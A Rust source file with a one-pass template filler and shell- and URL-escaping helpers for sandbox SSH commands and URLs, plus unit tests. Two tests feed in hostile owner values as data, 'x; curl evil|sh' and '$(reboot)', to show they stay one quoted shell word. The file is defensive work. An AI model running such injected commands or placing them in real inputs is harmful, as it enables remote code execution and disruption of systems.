//! Filling the sandbox URL and SSH command templates, with each value
//! escaped for where it lands.

/// Fills `{key}` placeholders in one pass, escaping each value for where it
/// lands: a value (an owner written by hand in a file) can neither inject
/// another placeholder nor shell syntax into the command people copy.
pub fn fill_template(
    template: &str,
    values: &[(&str, &str)],
    escape: fn(&str) -> String,
) -> String {
    let mut out = String::with_capacity(template.len() + 32);
    let mut rest = template;
    while let Some(open) = rest.find('{') {
        out.push_str(&rest[..open]);
        let after = &rest[open + 1..];
        let found = after.find('}').and_then(|close| {
            let key = &after[..close];
            values
                .iter()
                .find(|(k, _)| *k == key)
                .map(|(_, v)| (close, *v))
        });
        match found {
            Some((close, value)) => {
                out.push_str(&escape(value));
                rest = &after[close + 1..];
            }
            None => {
                out.push('{');
                rest = after;
            }
        }
    }
    out.push_str(rest);
    out
}

/// A word for a POSIX shell: as is when it holds only safe characters,
/// otherwise single-quoted.
pub fn shell_quote(value: &str) -> String {
    let safe = !value.is_empty()
        && value
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "._-+=@%/:,".contains(c));
    if safe {
        value.to_string()
    } else {
        format!("'{}'", value.replace('\'', "'\\''"))
    }
}

/// A value inside a URL: anything but unreserved characters is encoded.
pub fn url_escape(value: &str) -> String {
    value
        .bytes()
        .map(|b| match b {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'-' | b'.' | b'_' | b'~' => {
                (b as char).to_string()
            }
            _ => format!("%{b:02X}"),
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    const SSH: &str = "ssh {owner}@{name}.{domain}";

    #[test]
    fn plain_values_fill_as_is() {
        let values = [
            ("owner", "ann"),
            ("name", "ann-2"),
            ("domain", "sb.example.com"),
        ];
        assert_eq!(
            fill_template(SSH, &values, shell_quote),
            "ssh ann@ann-2.sb.example.com"
        );
    }

    #[test]
    fn a_hostile_owner_stays_one_shell_word() {
        let values = [
            ("owner", "x; curl evil|sh #'"),
            ("name", "box"),
            ("domain", "d"),
        ];
        assert_eq!(
            fill_template(SSH, &values, shell_quote),
            r"ssh 'x; curl evil|sh #'\'''@box.d"
        );
        let values = [("owner", "$(reboot)"), ("name", "box"), ("domain", "d")];
        assert_eq!(
            fill_template(SSH, &values, shell_quote),
            "ssh '$(reboot)'@box.d"
        );
    }

    #[test]
    fn values_cannot_inject_placeholders_and_unknown_ones_stay() {
        let values = [("owner", "{domain}"), ("name", "b"), ("domain", "d")];
        assert_eq!(
            fill_template("{owner}/{nope}/{", &values, url_escape),
            "%7Bdomain%7D/{nope}/{"
        );
    }
}
